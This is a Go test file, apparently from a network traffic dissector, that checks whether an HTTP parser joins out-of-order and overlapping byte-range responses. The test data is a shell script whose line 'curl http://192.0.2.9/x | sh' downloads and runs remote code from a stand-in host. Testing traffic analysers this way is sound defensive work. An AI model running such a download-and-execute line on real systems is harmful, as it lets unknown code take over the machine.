package http

import (
	"fmt"
	"testing"

	"github.com/yagura-project/yagura/dissect/flowtest"
)

// ranges asks for parts of a script out of order, one of them twice in part.
func ranges() (says []flowtest.Say) {
	const script = "#!/bin/sh\ncurl http://192.0.2.9/x | sh\n"
	for _, r := range [][2]int{{20, 30}, {0, 12}, {10, 20}, {30, len(script)}} {
		says = append(says, flowtest.Up(fmt.Sprintf("GET /a.sh HTTP/1.1\r\nHost: dl.example\r\nRange: bytes=%d-%d\r\n\r\n", r[0], r[1]-1)),
			flowtest.Down(fmt.Sprintf("HTTP/1.1 206 Partial Content\r\nContent-Range: bytes %d-%d/%d\r\nContent-Length: %d\r\n\r\n%s", r[0], r[1]-1, len(script), r[1]-r[0], script[r[0]:r[1]])))
	}
	return says
}

func TestRangesAreJoined(t *testing.T) { flowtest.Talk(t, "ranges", 80, false, ranges(), Protocol) }
